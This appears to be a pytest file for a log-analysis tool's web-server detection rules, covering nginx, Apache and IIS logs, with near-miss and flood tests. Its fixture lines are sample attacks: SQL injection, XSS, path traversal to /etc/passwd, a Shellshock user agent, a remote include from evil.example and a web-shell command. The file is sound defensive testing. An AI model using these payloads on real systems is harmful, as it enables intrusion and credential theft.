"""The shipped web-server rules (access logs of nginx, Apache and IIS; nginx and Apache error logs):
a firing line and a near miss for each, a 4xx flood from one address, and Wazuh parity for the web files."""

from __future__ import annotations

import time

import pytest

from vigil.event import AgentRef, Event

from .support import analyzer
from .test_auth_log_rules import WAZUH_CASES, _parity


def access(url: str, status: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x86_64)", method: str = "GET",
           ip: str = "198.51.100.7") -> str:
    return f'{ip} - - [01/Mar/2026:10:00:00 +0000] "{method} {url} HTTP/1.1" {status} 512 "-" "{agent}"'


EXAMPLES = [
    (access("/index.html"), None),
    (access("/missing.png", 404), "31101"),
    (access("/api/orders", 502), "31120"),
    (access("/item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users", 404), "31103"),
    (access("/item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users", 200), "31106"),
    (access("/search?q=selection%20of%20fromage"), None),
    (access("/q?x=%3Cscript%3Ealert(1)%3C/script%3E", 400), "31105"),
    (access("/q?x=scripted"), None),
    (access("/download?file=../../../../etc/passwd", 400), "31104"),
    (access("/page?next=https://example.org/ok"), None),
    (access("/cgi-bin/status", 400, agent="() { :; }; /bin/bash -c 'cat /etc/passwd'"), "200200"),
    (access("/", 403, agent="sqlmap/1.7.2#stable (https://sqlmap.org)"), "31508"),
    (access("/", 200, agent="Wget/1.21.3"), None),
    (access("/wp-comments-post.php", 403, agent="Googlebot/2.1", method="POST"), "31501"),
    (access("/timthumb.php?src=evil.php", 403), "31502"),
    (access("/shop.php/login.php?cPath=", 403, method="POST"), "31503"),
    (access("/wp-content/cache/external_abc.php", 403), "31505"),
    (access("/js/uploadify.php?src=http://evil.example/x.php", 403), "31512"),
    (access("/tmp/shell.php?cmd=id", 403), "31514"),
    (access("/phpMyAdmin/scripts/setup.php", 404), "31515"),
    (access("/config.php.bak", 404), "31516"),
    (access("/backups/", 404), "31101"),
    (access("/wp-login.php", 200, method="POST"), "31509"),
    ("2026-03-01 10:00:00 10.0.0.1 GET /default.aspx id=1;DROP%20TABLE%20users 80 - 198.51.100.7 UA - 500 0 0 12",
     "31103"),
    # nginx error log
    ("2026/03/01 10:00:00 [error] 80#80: *1 user \"bob\": password mismatch, client: 198.51.100.7", "31315"),
    ("2026/03/01 10:00:00 [error] 80#80: *1 open() \"/x\" failed (2: No such file or directory)", None),
    ("2026/03/01 10:00:00 [error] 80#80: *1 open() \"/aaaa\" failed (36: File name too long)", "31320"),
    ("2026/03/01 10:00:00 [crit] 80#80: *1 connect() failed (111: Connection refused)", "31303"),
    ("2026/03/01 10:00:00 [warn] 80#80: an upstream response is buffered", "31302"),
    ("2026/03/01 10:00:00 [error] 80#80: *1 upstream timed out", "31301"),
    ("2026/03/01 10:00:00 [error] 80#80: *1 accept() failed (53: Software caused connection abort)", None),
    ("2026/03/01 10:00:00 [error] 80#80: *1 no user/password was provided for basic authentication", None),
    # Apache error log
    ("[Sun Mar 01 10:00:00.1 2026] [autoindex:error] [pid 9] [client 198.51.100.7:5] Directory index forbidden "
     "by rule: /srv/", "30106"),
    ("[error] [client 198.51.100.7] Client sent malformed Host header", "30107"),
    ("[Sun Mar 01 10:00:00.1 2026] [authz_core:error] [pid 9] [client 198.51.100.7:5] AH01630: client denied by "
     "server configuration: /srv/private", "30305"),
    ("[Sun Mar 01 10:00:00.1 2026] [:error] [pid 9] [client 198.51.100.7:5] PHP Warning:  Undefined variable $x",
     "30318"),
    ("[Fri Dec 13 06:59:54 2013] [error] [client 12.34.65.78] PHP Notice:", None),
    ("[error] [client 198.51.100.7] File does not exist: /var/www/html/favicon.ico", None),
]


def winner(lines: list[str]) -> str | None:
    fresh = analyzer()
    alert = None
    now = time.time()
    for i, line in enumerate(lines):
        event = Event(module="logs", location="/var/log/nginx/access.log", timestamp=now + i, data={},
                      decoder="syslog", raw=line, agent=AgentRef("001", "web-1"))
        alert = fresh.analyse(event).alert
    return alert["rule"]["id"] if alert else None


def example_events() -> list[Event]:
    """Every example line, and a 4xx and a 5xx flood: the shipped-rule house test reaches rules with these."""
    now = time.time()
    floods = [access("/x", 404, ip="203.0.113.1")] * 14 + [access("/x", 503, ip="203.0.113.2")] * 14
    return [Event(module="logs", location="web", timestamp=now + i, data={}, decoder="syslog", raw=line,
                  agent=AgentRef("001", "web-1")) for i, line in enumerate([line for line, _ in EXAMPLES] + floods)]


@pytest.mark.parametrize(("line", "rule"), EXAMPLES)
def test_each_rule_fires_on_its_line_and_not_on_its_near_miss(line: str, rule: str | None) -> None:
    assert winner([line]) == rule


def test_a_4xx_flood_from_one_address_is_a_scan_and_a_5xx_flood_is_reported() -> None:
    assert winner([access("/x", 404)] * 13) == "31101"
    assert winner([access("/x", 404)] * 14) == "31151"
    assert winner([access("/x", 404, ip=f"203.0.113.{i}") for i in range(14)]) == "31101"
    assert winner([access("/x", 503)] * 14) == "200201"


@pytest.mark.skipif(not WAZUH_CASES.is_dir(), reason="../shared/reference/wazuh-4.14 is not next to the project")
@pytest.mark.parametrize("name", ["nginx", "web_rules", "web_appsec", "apache"])
def test_parity_with_wazuh_on_the_web_files(name: str) -> None:
    parity = _parity()
    (result,) = parity.measure([name])
    assert result.alerting >= 4
    assert result.parity >= parity.TARGET_PARITY, [o.session.lines[-1][:120] for o in result.misses]
    assert result.noise_share is None or result.noise_share <= parity.TARGET_NOISE, \
        [o.session.lines[-1][:120] for o in result.noise]
